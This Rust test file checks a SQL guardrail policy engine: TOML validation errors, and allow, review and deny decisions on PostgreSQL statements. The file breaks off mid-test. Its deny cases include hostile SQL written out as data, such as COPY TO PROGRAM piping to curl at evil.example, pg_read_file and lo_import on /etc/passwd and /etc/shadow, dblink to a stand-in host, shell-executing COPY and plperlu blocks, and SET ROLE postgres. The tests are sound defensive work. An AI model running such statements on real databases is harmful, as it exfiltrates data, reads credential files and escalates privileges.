//! Guardrail policies: validation (every error, with its line) and decisions (matching
//! conditions through nesting, scope, session conditions and precedence).

// Integration tests always build with cfg(test); saying so lets clippy's allow-*-in-tests
// settings cover the helpers too.
#![cfg(test)]

use countersign_policy::{
    Action, BindingSpec, Decision, Policy, PolicyError, SessionContext, classify, decide,
    rules::ON_PARSE_ERROR,
};

// ---------------------------------------------------------------------------------------------
// Helpers

fn policy(text: &str) -> Policy {
    Policy::parse(text).unwrap_or_else(|e| panic!("policy should parse:\n{e}"))
}

fn errors(text: &str) -> Vec<PolicyError> {
    match Policy::parse(text) {
        Ok(p) => panic!("policy should not parse, got rules {:?}", p.rule_names()),
        Err(e) => {
            assert!(!e.errors.is_empty());
            e.errors
        }
    }
}

/// The only error of `text`, which must be on `line` and mention `needle`.
fn single_error(text: &str, line: usize, needle: &str) -> PolicyError {
    let errs = errors(text);
    assert_eq!(errs.len(), 1, "expected one error, got:\n{errs:#?}");
    let err = errs.into_iter().next().unwrap();
    assert_eq!(err.line, Some(line), "{err}");
    assert!(
        err.message.contains(needle),
        "{err:?} should mention {needle:?}"
    );
    err
}

/// A session; `Who::default()` is a read-write member of `eng` on `pg-prod-main` in `prod`.
struct Who {
    groups: Vec<String>,
    resource: &'static str,
    environment: &'static str,
    access_level: Option<&'static str>,
}

impl Default for Who {
    fn default() -> Self {
        Who {
            groups: vec!["eng".to_owned()],
            resource: "pg-prod-main",
            environment: "prod",
            access_level: Some("read-write"),
        }
    }
}

impl Who {
    fn groups(groups: &[&str]) -> Self {
        Who {
            groups: groups.iter().map(|g| g.to_string()).collect(),
            ..Who::default()
        }
    }

    fn at(resource: &'static str, environment: &'static str) -> Self {
        Who {
            resource,
            environment,
            ..Who::default()
        }
    }

    fn level(access_level: Option<&'static str>) -> Self {
        Who {
            access_level,
            ..Who::default()
        }
    }

    fn ctx(&self) -> SessionContext<'_> {
        SessionContext {
            identity: "alice@example.com",
            groups: &self.groups,
            resource: self.resource,
            environment: self.environment,
            access_level: self.access_level,
        }
    }
}

fn run_as(policy: &Policy, who: &Who, sql: &str) -> Decision {
    decide(policy, &who.ctx(), &classify(sql), sql)
}

fn run(policy: &Policy, sql: &str) -> Decision {
    run_as(policy, &Who::default(), sql)
}

/// The deciding rule's name (`None` for default allow), with the action.
fn verdict(d: &Decision) -> (Action, Option<&str>) {
    (d.action, d.rule.as_deref())
}

/// One rule with `action = "deny"` and the given match table (inline TOML).
fn deny_when(conditions: &str) -> Policy {
    policy(&format!(
        "[[guardrail]]\nname = \"r\"\naction = \"deny\"\nmatch = {{ {conditions} }}\n"
    ))
}

/// Asserts which statements `deny_when(conditions)` denies.
fn assert_denies(conditions: &str, denied: &[&str], allowed: &[&str]) {
    let p = deny_when(conditions);
    for sql in denied {
        assert_eq!(
            run(&p, sql).action,
            Action::Deny,
            "{conditions} should deny {sql:?}"
        );
    }
    for sql in allowed {
        assert_eq!(
            run(&p, sql).action,
            Action::Allow,
            "{conditions} should allow {sql:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Validation

#[test]
fn multi_error_file_reports_every_problem_with_its_line() {
    let text = r#"on_parse_error = "deny"

[[guardrail]]
name = "no-ddl"
match = { kinds = ["drp"] }
action = "deny"

[[guardrail]]
name = "sneaky"
match = { regex = "(unclosed" }
action = "deny"
colour = "red"

[[guardrail]]
name = "nothing"
match = {}
action = "deny"

[[guardrail]]
name = "no-ddl"
match = { kinds = ["drop"], without_where = false }
action = "deny"
approvals = 2

[[guardrail]]
name = "weird-action"
match = { kinds = ["delete"] }
action = "block"
"#;
    let errs = errors(text);
    let got: Vec<(Option<usize>, Option<&str>, &str)> = errs
        .iter()
        .map(|e| (e.line, e.rule.as_deref(), e.message.as_str()))
        .collect();
    let want: &[(usize, &str, &str)] = &[
        (5, "no-ddl", "unknown statement kind \"drp\""),
        (10, "sneaky", "invalid regex \"(unclosed\""),
        (12, "sneaky", "unknown field \"colour\""),
        (16, "nothing", "empty `match`"),
        (
            20,
            "no-ddl",
            "duplicate rule name (first defined on line 4)",
        ),
        (21, "no-ddl", "`without_where = false` is not a condition"),
        (23, "no-ddl", "`approvals` only applies"),
        (28, "weird-action", "unknown action \"block\""),
    ];
    assert_eq!(got.len(), want.len(), "got:\n{got:#?}");
    for ((line, rule, message), (want_line, want_rule, needle)) in got.iter().zip(want) {
        assert_eq!(*line, Some(*want_line), "{message}");
        assert_eq!(*rule, Some(*want_rule), "{message}");
        assert!(
            message.contains(needle),
            "{message:?} should contain {needle:?}"
        );
    }
    // Columns point at the offending value.
    assert_eq!(errs[0].column, Some(20));
}

#[test]
fn errors_display_one_per_line_with_line_and_rule() {
    let text = "[[guardrail]]\nname = \"x\"\nmatch = { kinds = [\"drp\"] }\naction = \"deny\"\n\
                [[guardrail]]\nname = \"y\"\nmatch = { kinds = [\"drop\"] }\naction = \"nope\"\n";
    let err = Policy::parse(text).unwrap_err();
    let shown = err.to_string();
    let lines: Vec<&str> = shown.lines().collect();
    assert_eq!(lines.len(), 2, "{shown}");
    assert!(
        lines[0].starts_with(
            "line 3: rule \"x\": unknown statement kind \"drp\" (valid: select, insert, update, \
             delete, merge, create, alter, drop, truncate,"
        ),
        "{shown}"
    );
    assert!(lines[0].ends_with("lock, utility)"), "{shown}");
    assert_eq!(
        lines[1],
        "line 8: rule \"y\": unknown action \"nope\" (valid: deny, review, allow)"
    );
    // Both are std errors.
    let _: &dyn std::error::Error = &err;
    let _: &dyn std::error::Error = &err.errors[0];
}

#[test]
fn toml_syntax_error_is_one_error_with_its_line() {
    let text = "[[guardrail]]\nname = \"x\"\naction = deny\n";
    let err = single_error(text, 3, "invalid TOML");
    assert_eq!(err.rule, None);
    // A duplicate key is a TOML error too.
    single_error(
        "[[guardrail]]\nname = \"x\"\nname = \"y\"\n",
        3,
        "duplicate key",
    );
}

#[test]
fn unknown_fields_are_rejected_everywhere() {
    let err = single_error(
        "on_parse_eror = \"deny\"\n",
        1,
        "unknown field \"on_parse_eror\"",
    );
    assert!(err.message.contains("on_parse_error, guardrail"), "{err}");
    single_error(
        "[[guardrail]]\nname = \"x\"\nmatch = { kinds = [\"drop\"] }\naction = \"deny\"\nseverity = 3\n",
        5,
        "unknown field \"severity\"",
    );
    // A top-level setting written after a rule belongs to the rule, as TOML reads it.
    let err = single_error(
        "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = { kinds = [\"drop\"] }\non_parse_error = \"allow\"\n",
        5,
        "unknown field \"on_parse_error\"",
    );
    assert!(
        err.message
            .contains("must come before the first [[guardrail]]"),
        "{err}"
    );
    let err = single_error(
        "[[guardrail]]\nname = \"x\"\naction = \"deny\"\n[guardrail.match]\nkinds = [\"drop\"]\nkind = [\"drop\"]\n",
        6,
        "unknown field \"kind\" in `match`",
    );
    assert!(
        err.message.contains("without_where"),
        "lists valid fields: {err}"
    );
    assert_eq!(err.rule.as_deref(), Some("x"));
}

#[test]
fn unknown_kind_is_named_and_valid_kinds_listed() {
    let err = single_error(
        "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = { kinds = [\n  \"drop\",\n  \"trunc\",\n] }\n",
        6,
        "unknown statement kind \"trunc\"",
    );
    assert!(err.message.contains("valid: select, insert"), "{err}");
    assert!(err.message.contains("truncate"), "{err}");
    // Kind names ignore case, as StatementKind::from_name does.
    policy("[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = { kinds = [\"DROP\"] }\n");
}

#[test]
fn bad_regex_reports_the_regex_error() {
    let err = single_error(
        "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = { regex = \"a{2,1}\" }\n",
        4,
        "invalid regex",
    );
    assert!(!err.message.contains('\n'), "one line: {err:?}");
    assert!(
        err.message.len() > "invalid regex \"a{2,1}\": ".len(),
        "{err}"
    );
    single_error(
        "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = { regex = \"\" }\n",
        4,
        "empty `regex`",
    );
}

#[test]
fn empty_or_missing_match_is_an_error() {
    single_error(
        "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = {}\n",
        4,
        "empty `match`",
    );
    single_error(
        "[[guardrail]]\nname = \"x\"\naction = \"deny\"\n\n[guardrail.match]\n",
        5,
        "empty `match`",
    );
    let err = single_error(
        "\n[[guardrail]]\nname = \"x\"\naction = \"deny\"\n",
        2,
        "missing `match`",
    );
    assert_eq!(err.rule.as_deref(), Some("x"));
    single_error(
        "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = \"drop\"\n",
        4,
        "`match` must be a table",
    );
    // Empty lists are not conditions either.
    single_error(
        "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = { kinds = [] }\n",
        4,
        "`kinds` is empty",
    );
}

#[test]
fn false_booleans_are_errors() {
    for field in [
        "without_where",
        "modifying_cte",
        "copy_program",
        "copy_file",
        "explain_analyze",
        "set_role",
        "opaque",
        "multi_statement",
    ] {
        let text = format!(
            "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = {{ kinds = [\"delete\"], {field} = false }}\n"
        );
        let err = single_error(&text, 4, &format!("`{field} = false` is not a condition"));
        assert!(err.message.contains("omit the field"), "{err}");
        // And `true` is accepted.
        policy(&text.replace("false", "true"));
    }
    single_error(
        "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = { opaque = \"yes\" }\n",
        4,
        "`opaque` must be `true`, not a string",
    );
}

#[test]
fn duplicate_names_point_at_the_first_definition() {
    let text = "[[guardrail]]\nname = \"a\"\naction = \"deny\"\nmatch = { kinds = [\"drop\"] }\n\n\
                [[guardrail]]\nname = \"b\"\naction = \"deny\"\nmatch = { kinds = [\"drop\"] }\n\n\
                [[guardrail]]\nname = \"a\"\naction = \"allow\"\nmatch = { kinds = [\"select\"] }\n";
    let err = single_error(text, 12, "duplicate rule name (first defined on line 2)");
    assert_eq!(err.rule.as_deref(), Some("a"));
}

#[test]
fn names_and_actions_are_checked() {
    for bad in ["No Caps", "", "a/b", &"x".repeat(64)] {
        let text = format!(
            "[[guardrail]]\nname = {bad:?}\naction = \"deny\"\nmatch = {{ kinds = [\"drop\"] }}\n"
        );
        single_error(&text, 2, "invalid rule name");
    }
    policy(&format!(
        "[[guardrail]]\nname = \"{}\"\naction = \"deny\"\nmatch = {{ kinds = [\"drop\"] }}\n",
        "a.b_c-9".repeat(9)
    ));
    let err = single_error(
        "\n\n[[guardrail]]\naction = \"deny\"\nmatch = { kinds = [\"drop\"] }\n",
        3,
        "guardrail #1 has no `name`",
    );
    assert_eq!(err.rule, None);
    single_error(
        "[[guardrail]]\nname = \"x\"\nmatch = { kinds = [\"drop\"] }\n",
        1,
        "missing `action`",
    );
    single_error(
        "[[guardrail]]\nname = 7\naction = \"deny\"\nmatch = { kinds = [\"drop\"] }\n",
        2,
        "`name` must be a string, not an integer",
    );
    single_error(
        "on_parse_error = \"ignore\"\n",
        1,
        "unknown action \"ignore\"",
    );
    single_error(
        "[guardrail]\nname = \"x\"\n",
        1,
        "must be an array of tables",
    );
}

#[test]
fn max_approval_minutes_is_checked() {
    let rule = |action: &str, extra: &str| {
        format!(
            "[[guardrail]]\nname = \"x\"\naction = \"{action}\"\nmatch = {{ kinds = [\"delete\"] }}\n{extra}"
        )
    };
    for action in ["deny", "allow"] {
        single_error(
            &rule(action, "max_approval_minutes = 10\n"),
            5,
            "`max_approval_minutes` only applies",
        );
    }
    for n in ["0", "1441", "-5"] {
        single_error(
            &rule("review", &format!("max_approval_minutes = {n}\n")),
            5,
            "`max_approval_minutes` must be between 1 and 1440",
        );
    }
    single_error(
        &rule("review", "max_approval_minutes = \"10\"\n"),
        5,
        "must be an integer",
    );

    let p = policy(&rule("review", "max_approval_minutes = 1440\n"));
    assert_eq!(
        run(&p, "DELETE FROM t WHERE id = 1").max_approval_minutes,
        1440
    );
    // Left out: an approval covers one execution.
    let p = policy(&rule("review", ""));
    let d = run(&p, "DELETE FROM t WHERE id = 1");
    assert_eq!((d.action, d.max_approval_minutes), (Action::Review, 0));
    // Only the deciding review rule's cap counts; other actions carry none.
    assert_eq!(run(&p, "SELECT 1").max_approval_minutes, 0);
}

#[test]
fn fingerprints_ignore_constants_but_not_names() {
    use countersign_policy::fingerprint;
    let one = fingerprint("DELETE FROM t WHERE id = 1");
    assert!(one.is_some());
    assert_eq!(one, fingerprint("delete from t  where id = 2"));
    assert_ne!(one, fingerprint("DELETE FROM u WHERE id = 1"));
    assert_ne!(one, fingerprint("DELETE FROM t WHERE other = 1"));
    // Schemas, aliases and digits in names count: pg_query's defaults would merge these.
    assert_ne!(
        fingerprint("DELETE FROM public.t WHERE id = 1"),
        fingerprint("DELETE FROM audit.t WHERE id = 1")
    );
    assert_ne!(
        fingerprint("DELETE FROM accounts a WHERE a.id = 1"),
        fingerprint("DELETE FROM payments a WHERE a.id = 1")
    );
    assert_ne!(
        fingerprint("DELETE FROM orders_2024_01"),
        fingerprint("DELETE FROM orders_2024_02")
    );
    assert_eq!(fingerprint("DELETE FROM WHERE"), None);
}

#[test]
fn review_fields_are_checked() {
    let rule = |action: &str, extra: &str| {
        format!(
            "[[guardrail]]\nname = \"x\"\naction = \"{action}\"\nmatch = {{ kinds = [\"delete\"] }}\n{extra}"
        )
    };
    for action in ["deny", "allow"] {
        single_error(
            &rule(action, "approvals = 1\n"),
            5,
            "`approvals` only applies",
        );
        single_error(
            &rule(action, "approvers = [\"group:dba\"]\n"),
            5,
            "`approvers` only applies",
        );
    }
    for n in ["0", "11", "-1"] {
        single_error(
            &rule("review", &format!("approvals = {n}\n")),
            5,
            "`approvals` must be between 1 and 10",
        );
    }
    single_error(
        &rule("review", "approvals = \"2\"\n"),
        5,
        "must be an integer",
    );
    for bad in [
        "dba",
        "group:",
        "team:dba",
        "user:alice",
        "user:@x",
        "group:d ba",
    ] {
        let err = single_error(
            &rule(
                "review",
                &format!("approvers = [\"group:dba\",\n  {bad:?}]\n"),
            ),
            6,
            "bad approver",
        );
        assert!(
            err.message.contains("\"group:NAME\" or \"user:EMAIL\""),
            "{err}"
        );
    }
    single_error(
        &rule(
            "review",
            "approvals = 3\napprovers = [\"user:a@x.io\", \"user:b@x.io\"]\n",
        ),
        5,
        "only 2 user approver(s)",
    );
    let p = policy(&rule(
        "review",
        "approvals = 2\napprovers = [\"group:dba\", \"user:carol@example.com\"]\n",
    ));
    let d = run(&p, "DELETE FROM t WHERE id = 1");
    assert_eq!(d.approvals, 2);
    assert_eq!(d.approvers, ["group:dba", "user:carol@example.com"]);
}

#[test]
fn bad_globs_are_rejected() {
    let cases: &[(&str, &str)] = &[
        ("resources = [\"\"]", "empty entry in `resources`"),
        (
            "environments = [\" prod\"]",
            "bad pattern \" prod\" in `environments`",
        ),
        ("resources = [\"pg-[ab]\"]", "only `*` and `?` are special"),
        (
            "resources = \"pg-prod\"",
            "`resources` must be an array of strings, not a string",
        ),
    ];
    for (extra, needle) in cases {
        let text = format!(
            "[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = {{ kinds = [\"drop\"] }}\n{extra}\n"
        );
        single_error(&text, 5, needle);
    }
    let match_cases: &[(&str, &str)] = &[
        ("tables = [\"a.b.c\"]", "at most one dot"),
        ("tables = [\"public.\"]", "empty schema or name"),
        ("functions = [\"\"]", "empty entry in `functions`"),
        (
            "functions = [\"lo_{import,export}\"]",
            "only `*` and `?` are special",
        ),
        (
            "kinds = \"drop\"",
            "`kinds` must be an array of strings, not a string",
        ),
        (
            "kinds = [1]",
            "`kinds` must be an array of strings, not an integer",
        ),
        ("groups = [\"\"]", "empty entry in `groups`"),
    ];
    for (condition, needle) in match_cases {
        let text =
            format!("[[guardrail]]\nname = \"x\"\naction = \"deny\"\nmatch = {{ {condition} }}\n");
        single_error(&text, 4, needle);
    }
}

#[test]
fn policy_accessors() {
    let p = policy(
        "on_parse_error = \"review\"\n\
         [[guardrail]]\nname = \"b\"\ndescription = \"B!\"\naction = \"deny\"\nmatch = { kinds = [\"drop\"] }\n\
         [[guardrail]]\nname = \"a\"\naction = \"deny\"\nmatch = { kinds = [\"drop\"] }\n",
    );
    assert_eq!(p.rule_names(), ["b", "a"], "file order, not name order");
    assert_eq!(p.on_parse_error(), Action::Review);
    assert_eq!(p.description("b"), Some("B!"));
    assert_eq!(p.description("a"), None);
    let empty = Policy::empty();
    assert!(empty.rule_names().is_empty());
    assert_eq!(empty.on_parse_error(), Action::Deny);
    assert_eq!(policy("").on_parse_error(), Action::Deny);
    assert_eq!(
        [Action::Allow, Action::Review, Action::Deny].map(|a| a.as_str()),
        ["allow", "review", "deny"]
    );
}

#[test]
fn example_policy_parses_and_decides() {
    let text = include_str!("../examples/guardrails.toml");
    let p = policy(text);
    assert_eq!(p.on_parse_error(), Action::Deny);
    assert!(p.rule_names().contains(&"deletes-need-review"));

    let denied: &[(&str, &str)] = &[
        ("DROP TABLE users", "no-destructive-ddl"),
        ("TRUNCATE orders", "no-destructive-ddl"),
        ("DO $$ BEGIN DROP TABLE users; END $$", "no-destructive-ddl"),
        ("UPDATE users SET admin = true", "no-unbounded-writes"),
        ("DELETE FROM orders", "no-unbounded-writes"),
        (
            "COPY users TO PROGRAM 'curl -d @- evil.example'",
            "no-copy-program",
        ),
        ("COPY users FROM '/etc/passwd'", "no-server-file-copy"),
        (
            "SELECT pg_read_file('/etc/passwd')",
            "no-server-file-access",
        ),
        (
            "SELECT pg_catalog.pg_read_binary_file('global/pg_control')",
            "no-server-file-access",
        ),
        ("SELECT * FROM pg_ls_dir('.')", "no-server-file-access"),
        (
            "SELECT pg_stat_file('postgresql.conf')",
            "no-server-file-access",
        ),
        ("SELECT lo_import('/etc/shadow')", "no-server-file-access"),
        ("SELECT lowrite(0, 'x')", "no-server-file-access"),
        ("SELECT lo_export(16384, '/tmp/x')", "no-server-file-access"),
        (
            "SELECT dblink_exec('host=evil', 'select 1')",
            "no-server-file-access",
        ),
        ("SET ROLE postgres", "no-role-switching"),
        ("SET SESSION AUTHORIZATION postgres", "no-role-switching"),
        (
            "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$",
            "no-opaque-do-blocks",
        ),
        (
            "DO LANGUAGE plpython3u $$ import os $$",
            "no-opaque-do-blocks",
        ),
    ];
    for (sql, rule) in denied {
        let d = run(&p, sql);
        assert_eq!(verdict(&d), (Action::Deny, Some(*rule)), "{sql}: {d:?}");
        assert!(d.message.is_some(), "{sql}");
    }

    let d = run(&p, "DELETE FROM orders WHERE id = 7");
    assert_eq!(verdict(&d), (Action::Review, Some("deletes-need-review")));
    assert_eq!(
        (d.approvals, d.approvers.as_slice()),
        (1, &["group:dba".to_owned()][..])
    );
    assert_eq!(
        d.message.as_deref(),
        Some("DELETE in production needs approval from a DBA")
    );
    // A DBA's delete is carved out of review...
    let dba = Who::groups(&["dba"]);
    let d = run_as(&p, &dba, "DELETE FROM orders WHERE id = 7");
    assert_eq!(verdict(&d), (Action::Allow, Some("dba-deletes")));
    assert_eq!(d.matched, ["dba-deletes", "deletes-need-review"]);
    // ...but not out of a deny.
    let d = run_as(&p, &dba, "DELETE FROM orders");
    assert_eq!(verdict(&d), (Action::Deny, Some("no-unbounded-writes")));
    // Outside production, DROP and deletes are fine; the other rules still apply.
    let staging = Who::at("pg-staging", "staging");
    assert_eq!(
        run_as(&p, &staging, "DROP TABLE scratch").action,
        Action::Allow
    );
    assert_eq!(
        run_as(&p, &staging, "DELETE FROM t WHERE id = 1").action,
        Action::Allow
    );
    assert_eq!(run_as(&p, &staging, "DELETE FROM t").action, Action::Deny);

    for sql in [
        "SELECT * FROM users WHERE id = 1",
        "UPDATE users SET name = 'x' WHERE id = 1",
        "COPY users TO STDOUT",
        "COPY users FROM STDIN",
        "BEGIN; INSERT INTO t VALUES (1); COMMIT",
        "DO $$ BEGIN UPDATE t SET x = 1 WHERE id = 2; END $$",
    ] {
        assert_eq!(verdict(&run(&p, sql)), (Action::Allow, None), "{sql}");
    }
    assert_eq!(
        verdict(&run(&p, "SELEC 1")),
        (Action::Deny, Some(ON_PARSE_ERROR))
    );
}

// ---------------------------------------------------------------------------------------------
// Statement conditions

#[test]
fn deny_by_kind() {
    assert_denies(
        "kinds = [\"drop\", \"truncate\"]",
        &[
            "DROP TABLE t",
            "drop index i",
            "DROP ROLE bob",
            "TRUNCATE t",
            "TRUNCATE TABLE a, b CASCADE",
        ],
        &[
            "SELECT 1",
            "CREATE TABLE t (id int)",
            "DELETE FROM t WHERE id = 1",
        ],
    );
}

#[test]
fn deny_by_table_glob() {
    // Qualified pattern: qualified references in that schema, unqualified ones via the
    // default search_path (public, and pg_catalog).
    assert_denies(
        "tables = [\"public.users\"]",
        &[
            "SELECT * FROM users",
            "SELECT * FROM public.users",
            "SELECT * FROM PUBLIC.USERS",
            "UPDATE users SET x = 1 WHERE id = 1",
            "SELECT * FROM orders o JOIN users u ON u.id = o.user_id",
            "SELECT * FROM orders WHERE user_id IN (SELECT id FROM users)",
        ],
        &[
            "SELECT * FROM app.users",
            "SELECT * FROM users_archive",
            "SELECT 1",
        ],
    );
    // Unqualified pattern: that name in any schema.
    assert_denies(
        "tables = [\"users\"]",
        &[
            "SELECT * FROM users",
            "SELECT * FROM app.users",
            "DELETE FROM hr.users WHERE id = 2",
        ],
        &["SELECT * FROM users2", "SELECT * FROM orders"],
    );
    // Globs in both parts.
    assert_denies(
        "tables = [\"audit.*\", \"*.secret?\"]",
        &[
            "SELECT * FROM audit.log",
            "INSERT INTO audit.events VALUES (1)",
            "SELECT * FROM vault.secrets",
            "SELECT * FROM secret1",
        ],
        &[
            "SELECT * FROM log",
            "SELECT * FROM vault.secret",
            "SELECT * FROM public.audit",
        ],
    );
    // System catalogs: unqualified references resolve to pg_catalog first.
    assert_denies(
        "tables = [\"pg_catalog.pg_authid\"]",
        &[
            "SELECT * FROM pg_authid",
            "SELECT rolpassword FROM pg_catalog.pg_authid",
        ],
        &["SELECT * FROM app.pg_authid", "SELECT * FROM pg_roles"],
    );
}

#[test]
fn deny_by_function_glob() {
    assert_denies(
        "functions = [\"pg_read_file\"]",
        &[
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "SELECT PG_READ_FILE('x')",
            "SELECT * FROM t WHERE name = pg_read_file('x')",
            "SELECT * FROM pg_read_file('x') AS f",
        ],
        &["SELECT pg_read_binary_file('x')", "SELECT 1"],
    );
    assert_denies(
        "functions = [\"pg_catalog.pg_read_file\"]",
        &[
            "SELECT pg_read_file('x')",
            "SELECT pg_catalog.pg_read_file('x')",
        ],
        &["SELECT myschema.pg_read_file('x')"],
    );
    assert_denies(
        "functions = [\"lo_*\", \"dblink*\"]",
        &[
            "SELECT lo_import('/etc/passwd')",
            "SELECT lo_export(1234, '/tmp/out')",
            "SELECT lo_unlink(1234)",
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
            "SELECT dblink_exec('host=evil', 'drop table t')",
            "SELECT dblink_connect('c', 'host=evil')",
        ],
        &["SELECT lower('X')", "SELECT log(2)"],
    );
}

#[test]
fn without_where_on_update_and_delete_including_ctes() {
    assert_denies(
        "without_where = true",
        &[
            "UPDATE t SET x = 1",
            "DELETE FROM t",
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            "WITH u AS (UPDATE t SET x = 1 RETURNING *) SELECT count(*) FROM u",
            "EXPLAIN ANALYZE DELETE FROM t",
            "DO $$ BEGIN DELETE FROM t; END $$",
        ],
        &[
            "UPDATE t SET x = 1 WHERE id = 1",
            "DELETE FROM t WHERE id = 1",
            "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
            "SELECT * FROM t",
            "INSERT INTO t VALUES (1)",
        ],
    );
    // Combined with a kind: the nested DELETE is the statement that lacks a WHERE.
    assert_denies(
        "kinds = [\"delete\"], without_where = true",
        &["WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d"],
        &["DELETE FROM t WHERE id = 1", "UPDATE t SET x = 1"],
    );
}

#[test]
fn modifying_cte() {
    assert_denies(
        "modifying_cte = true",
        &["WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d"],
        &[
            "WITH x AS (SELECT 1) SELECT * FROM x",
            "DELETE FROM t WHERE id = 1",
        ],
    );
}

#[test]
fn copy_program_and_copy_file() {
    assert_denies(
        "copy_program = true",
        &[
            "COPY t FROM PROGRAM 'cat /etc/passwd'",
            "COPY (SELECT 1) TO PROGRAM 'sh -c id'",
        ],
        &["COPY t FROM STDIN", "COPY t TO '/tmp/t.csv'"],
    );
    assert_denies(
        "copy_file = true",
        &["COPY t TO '/tmp/t.csv'", "COPY t FROM '/etc/passwd'"],
        &["COPY t TO STDOUT", "COPY t FROM PROGRAM 'true'"],
    );
}

#[test]
fn explain_analyze_and_wrapped_statements() {
    // kinds looks through EXPLAIN: the inner DELETE is a statement of the input.
    assert_denies(
        "kinds = [\"delete\"]",
        &[
            "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
            "EXPLAIN DELETE FROM t WHERE id = 1",
            "PREPARE p AS DELETE FROM t WHERE id = $1",
        ],
        &["EXPLAIN ANALYZE SELECT * FROM t", "EXPLAIN SELECT 1"],
    );
    assert_denies(
        "explain_analyze = true",
        &[
            "EXPLAIN ANALYZE SELECT 1",
            "EXPLAIN (ANALYZE) DELETE FROM t WHERE id = 1",
        ],
        &[
            "EXPLAIN SELECT 1",
            "EXPLAIN DELETE FROM t WHERE id = 1",
            "ANALYZE t",
        ],
    );
    // The flag belongs to the EXPLAIN but covers what it executes.
    assert_denies(
        "kinds = [\"delete\", \"update\"], explain_analyze = true",
        &[
            "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET x = 1 WHERE id = 1",
        ],
        &[
            "EXPLAIN DELETE FROM t WHERE id = 1",
            "EXPLAIN ANALYZE SELECT * FROM t",
        ],
    );
}

#[test]
fn set_role() {
    assert_denies(
        "set_role = true",
        &[
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "RESET ROLE",
            "SELECT set_config('role', 'postgres', false)",
        ],
        &[
            "SET search_path = app",
            "SET statement_timeout = 0",
            "SELECT 1",
        ],
    );
}

#[test]
fn do_blocks_are_looked_through_and_opaque_ones_caught() {
    assert_denies(
        "kinds = [\"drop\"]",
        &[
            "DO $$ BEGIN DROP TABLE t; END $$",
            "DO $$ BEGIN IF true THEN DROP TABLE t; END IF; END $$",
        ],
        &["DO $$ BEGIN PERFORM 1; END $$"],
    );
    assert_denies(
        "tables = [\"secrets\"]",
        &["DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM vault.secrets; END $$"],
        &["DO $$ BEGIN PERFORM 1; END $$"],
    );
    assert_denies(
        "opaque = true",
        &[
            "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
            "DO LANGUAGE plperlu $$ system('id') $$",
        ],
        &["DO $$ BEGIN DROP TABLE t; END $$", "SELECT 1"],
    );
}

#[test]
fn same_statement_semantics() {
    // kinds and tables must hold for one statement: a SELECT of `secrets` next to a DROP of
    // something else does not match `drop` + `secrets`.
    assert_denies(
        "kinds = [\"drop\"], tables = [\"secrets\"]",
        &["DROP TABLE secrets", "SELECT 1; DROP TABLE secrets"],
        &[
            "SELECT * FROM secrets; DROP TABLE other",
            "DROP TABLE other",
        ],
    );
}

#[test]
fn multi_statement_where_only_the_second_is_bad() {
    let p = deny_when("kinds = [\"drop\"]");
    let d = run(&p, "SELECT 1; DROP TABLE t");
    assert_eq!(verdict(&d), (Action::Deny, Some("r")));
    assert_eq!(run(&p, "SELECT 1; SELECT 2").action, Action::Allow);

    assert_denies(
        "multi_statement = true",
        &[
            "SELECT 1; SELECT 2",
            "BEGIN; DELETE FROM t WHERE id = 1; COMMIT",
        ],
        &[
            "SELECT 1",
            "SELECT 1;",
            "DO $$ BEGIN PERFORM 1; PERFORM 2; END $$",
        ],
    );
}

#[test]
fn regex_sees_normalized_text() {
    assert_denies(
        "regex = \"select pg_sleep\\\\(\"",
        &[
            "SELECT   PG_SLEEP(10)",
            "select\n\tpg_sleep(1)",
            "/* hi */ SELECT pg_sleep(1)",
        ],
        &["SELECT pg_sleep_for('1s')", "SELECT 1"],
    );
    // Case-insensitive even if written in capitals.
    assert_denies(
        "regex = \"VACUUM FULL\"",
        &["vacuum  full t"],
        &["VACUUM t"],
    );
    // The regex is ANDed with the facts conditions, and sees the whole input.
    assert_denies(
        "kinds = [\"select\"], regex = \"for update\"",
        &[
            "SELECT * FROM t FOR UPDATE",
            "SELECT 1; DELETE FROM t WHERE note = 'for update'",
        ],
        &["DELETE FROM t WHERE note = 'for update'", "SELECT * FROM t"],
    );
}

// ---------------------------------------------------------------------------------------------
// Session conditions and scope

#[test]
fn groups_and_except_groups() {
    let p = deny_when("kinds = [\"delete\"], groups = [\"contractors\", \"interns\"]");
    let sql = "DELETE FROM t WHERE id = 1";
    assert_eq!(
        run_as(&p, &Who::groups(&["contractors"]), sql).action,
        Action::Deny
    );
    assert_eq!(
        run_as(&p, &Who::groups(&["eng", "interns"]), sql).action,
        Action::Deny
    );
    assert_eq!(
        run_as(&p, &Who::groups(&["eng"]), sql).action,
        Action::Allow
    );
    assert_eq!(run_as(&p, &Who::groups(&[]), sql).action, Action::Allow);
    assert_eq!(
        run_as(&p, &Who::groups(&["Contractors"]), sql).action,
        Action::Allow
    );

    let p = deny_when("kinds = [\"drop\"], except_groups = [\"dba\", \"sre\"]");
    let sql = "DROP TABLE t";
    assert_eq!(run_as(&p, &Who::groups(&["eng"]), sql).action, Action::Deny);
    assert_eq!(run_as(&p, &Who::groups(&[]), sql).action, Action::Deny);
    assert_eq!(
